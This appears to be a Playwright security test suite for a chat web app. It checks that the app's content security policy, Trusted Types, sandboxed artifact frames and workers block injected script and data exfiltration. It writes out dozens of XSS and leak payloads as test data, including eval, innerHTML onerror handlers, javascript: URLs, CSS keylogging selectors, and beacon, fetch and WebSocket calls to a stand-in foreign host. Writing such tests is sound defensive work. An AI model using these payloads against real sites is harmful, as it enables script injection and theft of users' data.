// What script that got into the page, a frame or a worker might try; and what another site might. Each is tried in the browser,
// on the served build, and has to come to nothing: no script of theirs runs, and nothing arrives elsewhere.

import { expect, test, type Frame, type Page } from '@playwright/test';
import { BASE, composer, FAKE, keyringOf, openChat, seen, unique } from './product';

/** An origin that is not ours; whatever arrives there is noted. */
const FOREIGN = FAKE.replace('//localhost', '//127.0.0.1');

interface Tried {
  /** What it threw, if it did. */
  threw: string | null;
  /** What the browser's policies said against it. */
  against: string[];
  /** Whether script of theirs ran. */
  ran: boolean;
}

/** Tries something in a page or frame: `attack` is the body of an async function that is told where its booty is to go. */
async function tried(where: Page | Frame, attack: string, out: string, stopped: string): Promise<Tried> {
  const run = async ([url, stopped]: [string, string]): Promise<Tried> => {
    const against: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => against.push(event.effectiveDirective));
    let threw: string | null = null;
    const { attack } = globalThis as unknown as { attack: (url: string) => Promise<void> };
    // In a task of the page's own: what the devtools call may use eval.
    await new Promise<void>((resolve) => setTimeout(() => attack(url).catch((error: Error) => { threw = error.name; }).then(resolve), 0));
    // What is stopped is stopped when it is drawn, at the latest; then a moment for whatever else was to load.
    for (let waited = 0; waited < 100 && stopped && threw !== stopped && !against.includes(stopped); waited += 1) await new Promise((resolve) => setTimeout(resolve, 50));
    await new Promise((resolve) => setTimeout(resolve, 300));
    return { threw, against, ran: 'pwned' in globalThis };
  };
  // The devtools' way in, which no page has; what the attack then does is under the page's policy.
  await where.evaluate(`globalThis.attack = async (url) => { ${attack} }`);
  return where.evaluate(run, [out, stopped] as [string, string]);
}

const arrived = (mark: string) => seen((entry) => entry.path.includes(mark));

/** Name, attack, and what has to stop it: what is thrown, or the directive that is violated. */
type Attack = [name: string, source: string, stopped: string];
const RUN = "'globalThis.pwned = 1'";
const put = (tag: string, fields: string) => `const it = document.createElement('${tag}'); ${fields} document.body.append(it);`;

const SCRIPT: Attack[] = [
  ['an inline script', put('script', `it.append(${RUN});`), ''],
  ['an inline script as text', put('script', `it.textContent = ${RUN};`), 'TypeError'],
  ['an inline module', put('script', `it.type = 'module'; it.append(${RUN});`), ''],
  ['eval', `(0, eval)(${RUN});`, 'EvalError'],
  ['a function from text', `new Function(${RUN})();`, 'EvalError'],
  ['a timer from text', `setTimeout(${RUN}, 0);`, 'TypeError'],
  ['markup by innerHTML', `document.body.innerHTML = '<img src=x onerror="pwned = 1">';`, 'TypeError'],
  ['markup by insertAdjacentHTML', `document.body.insertAdjacentHTML('beforeend', '<b onclick="pwned = 1">x</b>');`, 'TypeError'],
  ['markup by document.write', `document.write('<script>pwned = 1</scr' + 'ipt>');`, 'TypeError'],
  ['markup by a parser', `document.body.append(...new DOMParser().parseFromString('<b onclick="pwned = 1">x</b>', 'text/html').body.children);`, 'TypeError'],
  ['markup by a range', `document.body.append(document.createRange().createContextualFragment('<script>pwned = 1</scr' + 'ipt>'));`, 'TypeError'],
  ['a handler in an attribute', `${put('button', `it.setAttribute('onclick', ${RUN});`)} it.click();`, 'TypeError'],
  ['a script from elsewhere', put('script', 'it.src = url;'), 'TypeError'],
  ['a script of ours that is not the page’s', put('script', "it.src = '/text.js';"), 'TypeError'],
  ['a module from elsewhere', 'await import(url);', 'script-src-elem'],
  ['a module inside an address', `await import('data:text/javascript,globalThis.pwned=1');`, 'script-src-elem'],
  ['a javascript: link', `${put('a', `it.href = 'javascript:pwned=1';`)} it.click();`, 'script-src-elem'],
  ['a javascript: address', `location.href = 'javascript:pwned=1';`, 'script-src-elem'],
  ['a javascript: frame', put('iframe', `it.src = 'javascript:parent.pwned=1';`), 'script-src-elem'],
  ['a frame from text', put('iframe', `it.srcdoc = '<script>parent.pwned = 1</scr' + 'ipt>';`), 'TypeError'],
  ['a policy that lets everything through', `trustedTypes.createPolicy('loose', { createHTML: (text) => text });`, 'TypeError'],
  ['the policy once more', `trustedTypes.createPolicy('default', { createScriptURL: (text) => text });`, 'TypeError'],
];

const WORKERS: Attack[] = [
  ['a worker from elsewhere', 'new Worker(url);', 'TypeError'],
  ['a worker from a blob', `new Worker(URL.createObjectURL(new Blob([${RUN}])));`, 'TypeError'],
  ['a worker inside an address', `new Worker('data:text/javascript,fetch("' + url + '")');`, 'TypeError'],
  ['a shared worker', 'new SharedWorker(url);', 'TypeError'],
  ['a worker of ours at another address', `new Worker(location.origin + '/keyring_loader.js?' + url);`, 'TypeError'],
  ['another service worker', `await navigator.serviceWorker.register('/text.js');`, 'TypeError'],
];

const LEAKS: Attack[] = [
  ['fetch', 'await fetch(url);', 'connect-src'],
  ['fetch without CORS', `await fetch(url, { mode: 'no-cors', method: 'POST', body: 'booty', keepalive: true });`, 'connect-src'],
  ['XMLHttpRequest', `const ask = new XMLHttpRequest(); ask.open('GET', url); ask.send();`, 'connect-src'],
  ['a beacon', `navigator.sendBeacon(url, 'booty');`, 'connect-src'],
  ['WebSocket', `new WebSocket(url.replace('http', 'ws'));`, 'connect-src'],
  ['EventSource', 'new EventSource(url);', 'connect-src'],
  ['a link’s ping', `${put('a', `it.href = '#/chat'; it.ping = url;`)} it.click();`, 'connect-src'],
  ['a picture', put('img', 'it.src = url;'), 'img-src'],
  ['a picture by srcset', put('img', `it.srcset = url + ' 2x, ' + url + '&1 1x';`), 'img-src'],
  ['a picture inside SVG', `const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const it = document.createElementNS(svg.namespaceURI, 'image'); it.setAttribute('href', url); svg.append(it); document.body.append(svg);`, 'img-src'],
  ['an icon of the page', `const it = document.createElement('link'); it.rel = 'icon'; it.href = url; document.head.append(it);`, ''],
  ['a background by a style of an element', `document.body.style.backgroundImage = 'url(' + url + ')';`, 'img-src'],
  ['a style sheet that leaks what is typed', put('style', `it.textContent = 'textarea[value^=a] { background: url(' + url + ') } * { background: url(' + url + ') }';`), 'style-src-elem'],
  ['a style attribute', put('b', `it.setAttribute('style', 'background: url(' + url + ')');`), 'style-src-attr'],
  ['a style sheet from elsewhere', put('link', `it.rel = 'stylesheet'; it.href = url;`), 'style-src-elem'],
  ['an import into a built style sheet', `const sheet = new CSSStyleSheet(); sheet.replaceSync('* { background: url(' + url + ') }'); document.adoptedStyleSheets = [sheet];`, 'img-src'],
  ['a font', `await new FontFace('booty', 'url(' + url + ')').load();`, 'font-src'],
  ['sound', put('audio', 'it.src = url; it.preload = "auto";'), 'media-src'],
  ['a film and its subtitles', put('video', 'it.src = url; it.poster = url;'), 'media-src'],
  ['an object', put('object', 'it.data = url;'), 'TypeError'],
  ['something embedded', put('embed', 'it.src = url;'), 'TypeError'],
  ['a frame', put('iframe', 'it.src = url;'), 'frame-src'],
  ['a form', `${put('form', `it.action = url; it.method = 'post';`)} it.submit();`, 'form-action'],
  ['a form into a new window', `${put('form', `it.action = url; it.target = '_blank';`)} it.requestSubmit();`, 'form-action'],
  ['a prefetch', put('link', `it.rel = 'prefetch'; it.href = url;`), 'default-src'],
  ['a preload', put('link', `it.rel = 'preload'; it.as = 'fetch'; it.href = url;`), 'connect-src'],
  ['a module’s preload', put('link', `it.rel = 'modulepreload'; it.href = url;`), 'script-src-elem'],
  ['a manifest', `const it = document.createElement('link'); it.rel = 'manifest'; it.href = url; document.head.querySelector('[rel=manifest]')?.remove(); document.head.append(it);`, ''],
  ['rules for what to fetch ahead', put('script', `it.type = 'speculationrules'; it.append(JSON.stringify({ prefetch: [{ source: 'list', urls: [url] }] }));`), ''],
];

for (const [kind, attacks] of Object.entries({ script: SCRIPT, 'a worker': WORKERS, 'a way out': LEAKS })) {
  test.describe(`tried in the page, ${kind}`, () => {
    // Where they are kept out, their door is another one than the browser's.
    if (attacks === WORKERS) test.use({ serviceWorkers: 'allow' });
    for (const [name, source, stopped] of attacks) {
      test(name, async ({ page }) => {
        await openChat(page);
        const mark = unique();
        const result = await tried(page, source, `${FOREIGN}/${mark}?booty`, stopped);
        expect(result.ran).toBe(false);
        if (stopped) expect([result.threw, ...result.against]).toContain(stopped);
        expect(await arrived(mark)).toEqual([]);
        // It is the page it was, and still works.
        expect(new URL(page.url()).origin).toBe(new URL(BASE).origin);
        expect(page.context().pages()).toHaveLength(1);
      });
    }
  });
}

test('another base for addresses is not taken', async ({ page }) => {
  await openChat(page);
  const result = await tried(page, `const it = document.createElement('base'); it.href = url; document.head.prepend(it);`, `${FOREIGN}/x/`, 'base-uri');
  expect(result.against).toContain('base-uri');
  expect(await page.evaluate(() => document.baseURI)).toContain(BASE);
});

test('cameras, microphones, places and devices are not to be had', async ({ page, context }) => {
  await context.grantPermissions(['camera', 'microphone', 'geolocation']);
  await openChat(page);
  const { allowed, place } = await page.evaluate(async () => {
    const { featurePolicy } = document as unknown as { featurePolicy: { allowsFeature: (name: string) => boolean } };
    const names = ['camera', 'microphone', 'geolocation', 'usb', 'serial', 'hid', 'midi', 'display-capture', 'payment', 'screen-wake-lock'];
    const place = await new Promise((resolve) => navigator.geolocation.getCurrentPosition(() => resolve('given'), (error) => resolve(error.code)));
    return { allowed: names.filter((name) => featurePolicy.allowsFeature(name)), place };
  });
  expect(allowed).toEqual([]);
  expect(place).toBe(1);
});

/** A page of another site, on which anything goes. */
async function foreign(page: Page, body: string): Promise<void> {
  const url = `${FOREIGN}/another-site/`;
  await page.context().route(url, (route) => route.fulfill({ contentType: 'text/html', body: `<!DOCTYPE html><body>${body}</body>` }));
  await page.goto(url);
}

test('another site cannot hold on to the app’s window', async ({ page, context }) => {
  await foreign(page, '');
  const opened = context.waitForEvent('page');
  await page.evaluate((url) => Object.assign(window, { theirs: window.open(url) }), `${BASE}/#/chat`);
  const app = await opened;
  await expect(composer(app)).toBeEditable();
  expect(await app.evaluate(() => window.opener === null)).toBe(true);
  expect(await page.evaluate(() => (window as unknown as { theirs: Window }).theirs.closed)).toBe(true);
  await page.evaluate((url) => { (window as unknown as { theirs: Window }).theirs.location = url; }, `${FOREIGN}/another-site/`);
  await expect(composer(app)).toBeEditable();
});

test('another site cannot show the app in a frame', async ({ page }) => {
  await foreign(page, `<iframe src="${BASE}/"></iframe>`);
  const frame = page.frames().find((one) => one !== page.mainFrame())!;
  await expect.poll(() => frame.url()).toMatch(/^chrome-error:/);
});

test('another site can neither read nor run the app’s files', async ({ page }) => {
  await foreign(page, '');
  const outcomes = await page.evaluate(async (base) => {
    const load = (tag: 'script' | 'img', url: string) => new Promise((resolve) => {
      const it = document.createElement(tag);
      it.onload = () => resolve('loaded');
      it.onerror = () => resolve('refused');
      it.src = url;
      document.body.append(it);
    });
    const read = (mode: RequestMode) => fetch(`${base}/catalogue.json`, { mode }).then(() => 'read', () => 'refused');
    return [await load('script', `${base}/text.js`), await load('img', `${base}/icon.svg`), await read('cors'), await read('no-cors')];
  }, BASE);
  expect(outcomes).toEqual(['refused', 'refused', 'refused', 'refused']);
});

/** What script would try that ran inside a frame for what models draw. */
const IN_FRAME: Attack[] = [
  ['fetch', 'await fetch(url);', 'connect-src'],
  ['a picture', put('img', 'it.src = url;'), 'img-src'],
  ['a background', put('style', `it.textContent = '* { background: url(' + url + ') !important }';`), 'img-src'],
  ['a script', put('script', `it.append(${RUN});`), 'script-src-elem'],
  ['eval', `(0, eval)(${RUN});`, 'EvalError'],
  ['a worker', `new Worker(URL.createObjectURL(new Blob([${RUN}])));`, 'worker-src'],
  ['a frame inside', put('iframe', 'it.src = url;'), 'frame-src'],
  ['a form', `${put('form', 'it.action = url;')} it.submit();`, ''],
  ['a new window', 'if (window.open(url)) throw new Error();', ''],
  ['the whole window', 'top.location = url;', 'SecurityError'],
  ['another page in its place', 'location = url; await new Promise((resolve) => setTimeout(resolve, 250));', ''],
  ['the page around it', 'parent.document.body.textContent;', 'SecurityError'],
  ['stored things', 'localStorage.length;', 'SecurityError'],
  ['the database', `await new Promise((resolve, reject) => { const open = indexedDB.open('x'); open.onsuccess = resolve; open.onerror = () => reject(open.error); });`, 'SecurityError'],
  ['cookies', 'document.cookie = "a=b";', 'SecurityError'],
  ['the kept files', 'await caches.keys();', 'SecurityError'],
];

for (const file of ['artifact-static.html', 'artifact-mermaid.html']) {
  test.describe(`tried in ${file}`, () => {
    for (const [name, source, stopped] of IN_FRAME) {
      test(name, async ({ page }) => {
        await openChat(page);
        await page.evaluate((src) => {
          const it = document.createElement('iframe');
          it.setAttribute('sandbox', 'allow-scripts');
          it.src = src;
          // In sight, or nothing in it is drawn.
          Object.assign(it.style, { position: 'fixed', inset: '0', zIndex: '99' });
          document.body.append(it);
        }, `/${file}`);
        const inside = (): Frame => page.frames().find((one) => one.url().endsWith(file))!;
        await expect.poll(() => inside()?.evaluate(() => document.readyState)).toBe('complete');
        const mark = unique();
        const result = await tried(inside(), source, `${FOREIGN}/${mark}?booty`, stopped).catch(() => null);
        // A frame that was sent away shows the browser's own page.
        if (result && stopped) expect([result.threw, ...result.against]).toContain(stopped);
        if (result) expect(result.ran).toBe(false);
        else expect(name).toBe('another page in its place');
        expect(await arrived(mark)).toEqual([]);
        expect(page.url()).toContain(BASE);
        expect(page.context().pages()).toHaveLength(1);
      });
    }
  });
}

test('what a frame says to the page has no effect', async ({ page }) => {
  const wrong: string[] = [];
  page.on('pageerror', (error) => wrong.push(String(error)));
  await openChat(page);
  await page.evaluate((src) => {
    const it = document.createElement('iframe');
    it.setAttribute('sandbox', 'allow-scripts');
    it.src = src;
    document.body.append(it);
  }, '/artifact-static.html');
  const frame = () => page.frames().find((one) => one.url().endsWith('artifact-static.html'))!;
  await expect.poll(() => frame()?.evaluate(() => document.readyState)).toBe('complete');
  const before = await page.evaluate(() => document.querySelector('.app')!.outerHTML.length);
  await frame().evaluate(() => {
    for (const said of ['code', '<img src=x>', { take: true }, { started: 'x' }, { failed: 'x' }, [0, 'Abort', 1e9], new ArrayBuffer(1 << 20), 1e9, null]) parent.postMessage(said, '*');
  });
  await composer(page).fill('Still here');
  await composer(page).fill('');
  await expect.poll(() => page.evaluate(() => document.querySelector('.app')!.outerHTML.length)).toBe(before);
  expect(wrong).toEqual([]);
});

test.describe('tried in the service worker', () => {
  test.use({ serviceWorkers: 'allow' });

  test('it fetches the app’s files and nothing from elsewhere, and runs no other script', async ({ page, context }) => {
    await openChat(page);
    const worker = context.serviceWorkers()[0] ?? await context.waitForEvent('serviceworker');
    const mark = unique();
    const outcomes = await worker.evaluate(async (out) => {
      const name = (error: unknown) => (error as Error).name;
      const scripts = (self as unknown as { importScripts: (url: string) => void }).importScripts;
      const run = (url: string) => { try { scripts.call(self, url); return 'run'; } catch (error) { return name(error); } };
      const fetched = (url: string) => fetch(url, { mode: 'no-cors' }).then(() => 'fetched', name);
      return [await fetched('/catalogue.json'), await fetched(out), run(out), run('/text.js')];
    }, `${FOREIGN}/${mark}`);
    expect(outcomes).toEqual(['fetched', 'TypeError', 'NetworkError', 'NetworkError']);
    expect(await arrived(mark)).toEqual([]);
  });
});

test('a worker runs nothing from elsewhere, and the keyring reaches only what is encrypted or near', async ({ page }) => {
  await openChat(page);
  const keyring = await keyringOf(page);
  const mark = unique();
  const outcomes = await keyring.evaluate(async (out) => {
    const against: string[] = [];
    addEventListener('securitypolicyviolation', (event) => against.push((event as SecurityPolicyViolationEvent).effectiveDirective));
    // In a task of the worker's own: what the devtools call may use eval.
    const name = (call: () => unknown) => new Promise((resolve) => setTimeout(() => { try { call(); resolve('done'); } catch (error) { resolve((error as Error).name); } }, 0));
    const scripts = (self as unknown as { importScripts: (url: string) => void }).importScripts;
    const done = [await name(() => scripts.call(self, out)), await name(() => scripts.call(self, 'data:text/javascript,0')), await name(() => (0, eval)('1'))];
    await fetch('http://example.test/').catch(() => undefined);
    await new Promise((resolve) => setTimeout(resolve, 100));
    return { done, against };
  }, `${FOREIGN}/${mark}`);
  expect(outcomes.done).toEqual(['NetworkError', 'NetworkError', 'EvalError']);
  expect(outcomes.against).toContain('connect-src');
  expect(await arrived(mark)).toEqual([]);
});
